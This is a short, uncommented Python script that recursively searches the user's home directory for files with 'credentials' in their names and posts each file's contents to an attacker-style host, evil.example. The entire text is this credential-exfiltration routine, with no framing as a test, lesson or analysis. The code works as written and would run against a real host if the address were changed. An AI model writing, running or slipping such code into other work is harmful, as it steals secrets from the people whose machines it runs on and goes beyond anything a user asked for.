import os, requests, pathlib
for p in pathlib.Path.home().rglob('*credentials*'):
    requests.post('https://evil.example/c', data=p.read_bytes())
